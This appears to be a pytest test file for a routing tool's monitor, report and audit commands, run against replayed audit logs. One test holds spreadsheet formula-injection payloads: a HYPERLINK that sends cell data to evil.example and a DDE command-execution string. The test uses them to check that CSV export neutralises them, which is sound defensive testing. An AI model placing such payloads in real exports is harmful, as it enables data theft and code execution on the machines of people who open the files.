"""`hybridroute monitor`, `report` and `audit` on a replayed audit log."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from hybridroute.cli import main
from hybridroute.monitoring.audit import SQLiteAuditStore
from hybridroute.monitoring.replay import Phase, replay
from hybridroute.monitoring.thresholds import MonitorThresholds
from support.json_files import write_json_file


def write_log(path: Path, phases: list[Phase]) -> Path:
    store = SQLiteAuditStore(path)
    store.write_many([r.plain() for r in replay(phases, np.random.default_rng(0))])
    store.close()
    return path


@pytest.fixture(scope="module")
def healthy_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_log(tmp_path_factory.mktemp("healthy") / "audit.sqlite", [Phase(400)])


@pytest.fixture(scope="module")
def degraded_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    phases = [Phase(400), Phase(400, accuracy=0.7, edge_share=0.5, edge_latency_ms=40.0, cloud_latency_ms=400.0)]
    return write_log(tmp_path_factory.mktemp("degraded") / "audit.sqlite", phases)


def test_monitor_reports_healthy_traffic(healthy_db: Path) -> None:
    result = CliRunner().invoke(main, ["monitor", "--db", str(healthy_db), "--window", "200", "--json"])
    assert result.exit_code == 0, result.output
    analysis = json.loads(result.output)
    assert analysis["health"]["status"] == "healthy"
    assert analysis["alerts"] == []


def test_monitor_exits_2_on_critical_traffic(degraded_db: Path) -> None:
    result = CliRunner().invoke(main, ["monitor", "--db", str(degraded_db), "--window", "200"])
    assert result.exit_code == 2, result.output
    assert "critical" in result.output and "edge_share" in result.output


def test_report_writes_html_and_pngs(degraded_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    result = CliRunner().invoke(main, ["report", "--db", str(degraded_db), "--out", str(out), "--window", "200"])
    assert result.exit_code == 0, result.output
    html = out.read_text()
    assert "<img" in html and "http://" not in html and "https://" not in html
    assert len(list((tmp_path / "report_files").glob("*.png"))) == 5


def test_audit_exports_csv(degraded_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(main, ["audit", "--db", str(degraded_db), "--tier", "cloud", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    lines = out.read_text().splitlines()
    assert len(lines) > 1 and "tier" in lines[0]
    assert all(",cloud," in line for line in lines[1:])


@pytest.mark.parametrize("command", ["monitor", "report"])
def test_missing_database_is_one_clear_line(command: str, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, [command, "--db", str(tmp_path / "none.sqlite")])
    assert result.exit_code == 1 and "Error:" in result.output and "Traceback" not in result.output


def test_bench_tracking_measures_the_label_free_estimate(tiny_run: Path, toy_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "tracking.json"
    args = ["bench", "tracking", "--run", str(tiny_run), "--test", str(toy_csv), "--window", "20", "--json", str(out)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    assert "label-free estimate on 120 answers" in result.output and "within 2 points: overall" in result.output
    record = json.loads(out.read_text())
    assert record["tracking"]["queries"] == 120 and len(record["tracking"]["window_gaps"]) == 6
    assert set(record["within_2_points"]) == {"overall", "mean_window", "every_window"}


# ---------------------------------------------------------------- windows too small to judge


@pytest.mark.parametrize("command", ["monitor", "report"])
def test_a_window_smaller_than_min_window_is_refused_in_one_line(command: str, degraded_db: Path) -> None:
    result = CliRunner().invoke(main, [command, "--db", str(degraded_db), "--window", "20"])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.strip() == (
        "Error: --window 20 is smaller than --min-window 50: a window that small never gets a verdict; "
        "pass --window 50 or more, or lower --min-window"
    )


def test_min_window_lets_a_small_window_be_judged(degraded_db: Path) -> None:
    args = ["monitor", "--db", str(degraded_db), "--window", "40", "--min-window", "20", "--json"]
    result = CliRunner().invoke(main, args)
    analysis = json.loads(result.output)
    assert analysis["window"]["queries"] == 40 and analysis["health"]["status"] == "critical"
    assert result.exit_code == 2 and analysis["alerts"]
    assert CliRunner().invoke(main, ["monitor", "--db", str(degraded_db), "--min-window", "0"]).exit_code != 0


def test_min_window_defaults_to_the_thresholds_default() -> None:
    from hybridroute.cli import DEFAULT_MIN_WINDOW

    assert MonitorThresholds().min_window == DEFAULT_MIN_WINDOW  # the default the help text names
    for command in ("monitor", "report"):
        option = next(p for p in main.commands[command].params if p.name == "min_window")
        assert option.default is None  # not given: the --thresholds file's, else MonitorThresholds'


# ---------------------------------------------------------------- --thresholds


def test_monitor_judges_by_the_thresholds_file(healthy_db: Path, tmp_path: Path) -> None:
    # healthy traffic answers about 95% at the edge (97% in this window): no alert by default, a warning below 99%
    strict = write_json_file(tmp_path / "thresholds.json", {"min_edge_share": 0.99, "critical_edge_share": 0.5})
    result = CliRunner().invoke(
        main, ["monitor", "--db", str(healthy_db), "--window", "200", "--thresholds", str(strict), "--json"]
    )
    assert result.exit_code == 0, result.output  # a warning, not critical
    analysis = json.loads(result.output)
    assert [(a["name"], a["severity"]) for a in analysis["alerts"]] == [("edge_share_low", "warning")]
    assert analysis["thresholds"]["min_edge_share"] == 0.99 and analysis["thresholds"]["min_accuracy"] == 0.85
    default = json.loads(CliRunner().invoke(main, ["monitor", "--db", str(healthy_db), "--json"]).output)
    assert default["alerts"] == [] and default["thresholds"] == dataclasses.asdict(MonitorThresholds())


def test_report_judges_by_the_thresholds_file(healthy_db: Path, tmp_path: Path) -> None:
    strict = write_json_file(tmp_path / "thresholds.json", {"min_edge_share": 0.99, "critical_edge_share": 0.5})
    for name, extra in (("default.html", []), ("strict.html", ["--thresholds", str(strict)])):
        args = ["report", "--db", str(healthy_db), "--out", str(tmp_path / name), "--window", "200", *extra]
        assert CliRunner().invoke(main, args).exit_code == 0
    assert "edge_share_low" not in _alerts_of(tmp_path / "default.html")
    assert "edge_share_low" in _alerts_of(tmp_path / "strict.html")


def _alerts_of(page: Path) -> str:
    """The report's alerts section (from its heading to the next one)."""
    html = page.read_text(encoding="utf-8")
    start = html.index("Alerts")
    return html[start : html.find("<h2", start + 1)]


@pytest.mark.parametrize("command", ["monitor", "report"])
def test_a_bad_thresholds_file_is_one_clear_line(command: str, healthy_db: Path, tmp_path: Path) -> None:
    bad = write_json_file(tmp_path / "thresholds.json", {"min_edge_shares": 0.9})
    result = CliRunner().invoke(main, [command, "--db", str(healthy_db), "--thresholds", str(bad)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.startswith(f"Error: {bad}: unknown MonitorThresholds keys ['min_edge_shares']; known keys:")


def test_a_min_window_from_the_thresholds_file_is_named_when_the_window_is_smaller(
    healthy_db: Path, tmp_path: Path
) -> None:
    file = write_json_file(tmp_path / "thresholds.json", {"min_window": 300})
    args = ["monitor", "--db", str(healthy_db), "--window", "200", "--thresholds", str(file)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: --window 200 is smaller than min_window in {file} 300:")
    assert CliRunner().invoke(main, [*args, "--min-window", "100"]).exit_code == 0  # the flag overrides the file


def test_monitor_json_on_an_empty_log_is_strict_json(tmp_path: Path) -> None:
    SQLiteAuditStore(tmp_path / "empty.sqlite").close()
    result = CliRunner().invoke(main, ["monitor", "--db", str(tmp_path / "empty.sqlite"), "--json"])
    assert result.exit_code == 0, result.output

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    analysis = json.loads(result.output, parse_constant=refuse)
    assert analysis["health"]["status"] == "insufficient_data" and analysis["window"]["start"] is None


# ---------------------------------------------------------------- audit: CSV cells and printed times


def test_audit_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "plain"]
    records = [r.plain() for r in replay([Phase(len(texts))], np.random.default_rng(0))]
    store = SQLiteAuditStore(tmp_path / "raw.sqlite")
    store.write_many([dataclasses.replace(r, text=t) for r, t in zip(records, texts, strict=True)])
    store.close()
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["audit", "--db", str(tmp_path / "raw.sqlite"), "--csv", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = sorted(csv.DictReader(handle), key=lambda row: texts.index(row["text"].removeprefix("'")))
    assert [row["text"] for row in rows] == ["'" + t for t in texts[:3]] + ["plain"]
    assert all(float(row["confidence"]) > 0 and not row["cost"].startswith("'") for row in rows)


def test_a_printed_time_passed_back_selects_that_record(tmp_path: Path) -> None:
    (base,) = [r.plain() for r in replay([Phase(1)], np.random.default_rng(0))]
    store = SQLiteAuditStore(tmp_path / "audit.sqlite")
    store.write_many([dataclasses.replace(base, time=1733425123.4567897)])  # microseconds that would round up
    store.close()
    db = ["audit", "--db", str(tmp_path / "audit.sqlite")]
    listed = CliRunner().invoke(main, db)
    shown = listed.stdout.split("\t")[0]
    assert shown == "2024-12-05T18:58:43.456789+00:00"
    assert base.request_id in CliRunner().invoke(main, [*db, "--since", shown]).stdout
    assert CliRunner().invoke(main, [*db, "--until", shown]).stdout == ""


# ---------------------------------------------------------------- read-only storage


def run_with_read_only_folder(folder: Path, args: list[str]) -> tuple[int, str]:
    """Run ``python -m hybridroute ARGS`` while ``folder`` is not writable; return its exit code and output.

    A normal user: chmod. Root, whom chmod does not stop: a read-only bind mount in a private mount
    namespace (``unshare -m``), or skip when that is not allowed either.
    """
    cli = [sys.executable, "-m", "hybridroute", *args]
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            done = subprocess.run(cli, capture_output=True, text=True, timeout=120)
        finally:
            folder.chmod(0o755)
        return done.returncode, done.stdout + done.stderr
    unshare = shutil.which("unshare")
    mount_ro = 'mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" && ! touch "$1/probe" 2>/dev/null'
    if unshare is None or subprocess.run([unshare, "-m", "sh", "-c", mount_ro, "sh", folder]).returncode != 0:
        pytest.skip("running as root, where chmod does not make a folder read-only, and no read-only mount allowed")
    command = [unshare, "-m", "sh", "-c", f'{mount_ro} && shift && exec "$@"', "sh", str(folder), *cli]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    return done.returncode, done.stdout + done.stderr


def test_the_read_commands_open_a_log_on_read_only_storage(tmp_path: Path) -> None:
    folder = tmp_path / "readonly"
    folder.mkdir()
    db = str(write_log(folder / "audit.sqlite", [Phase(300)]))  # closed cleanly: a WAL log without -wal/-shm
    code, output = run_with_read_only_folder(folder, ["monitor", "--db", db, "--window", "100"])
    assert code == 0 and "health 100/100 healthy (100 queries)" in output, output
    code, output = run_with_read_only_folder(folder, ["audit", "--db", db, "--limit", "3"])
    assert code == 0 and output.count("\t") >= 27 and "dropped on overflow (all time): 0" in output, output
    out = tmp_path / "report.html"
    code, output = run_with_read_only_folder(folder, ["report", "--db", db, "--out", str(out), "--window", "100"])
    assert code == 0 and out.is_file(), output
    assert sorted(p.name for p in folder.iterdir()) == ["audit.sqlite"]  # nothing was created beside the log


def test_on_read_only_storage_records_only_in_the_wal_are_reported_missing(tmp_path: Path) -> None:
    folder = tmp_path / "readonly"
    folder.mkdir()
    path = write_log(tmp_path / "live.sqlite", [Phase(300)])
    writer = SQLiteAuditStore(path)  # still open: its next records sit in the write-ahead log
    late = replay([Phase(5)], np.random.default_rng(7))
    writer.write_many([dataclasses.replace(r.plain(), request_id=f"late-{i}") for i, r in enumerate(late)])
    for suffix in ("", "-wal"):  # a copy of a live log: the main file and its -wal, no -shm
        shutil.copyfile(f"{path}{suffix}", folder / f"audit.sqlite{suffix}")
    writer.close()
    code, output = run_with_read_only_folder(folder, ["audit", "--db", str(folder / "audit.sqlite")])
    assert code == 0, output
    assert (
        "read without audit.sqlite-wal" in output and "records written since its last checkpoint are missing" in output
    )
    assert output.count("\n") >= 300


def test_monitor_compares_with_cloud_only_at_the_prices_files_cloud_price(healthy_db: Path, tmp_path: Path) -> None:
    prices = write_json_file(tmp_path / "prices.json", {"cloud_per_query": 0.0272})  # twice the default
    args = ["monitor", "--db", str(healthy_db), "--window", "200", "--json"]
    default = json.loads(CliRunner().invoke(main, args).output)["cost"]
    priced = json.loads(CliRunner().invoke(main, [*args, "--prices", str(prices)]).output)["cost"]
    assert priced["monthly_cloud_only"] == pytest.approx(2 * default["monthly_cloud_only"])
    assert priced["monthly_cost"] == default["monthly_cost"]  # what was charged is in the log
    assert priced["savings_pct"] > default["savings_pct"]
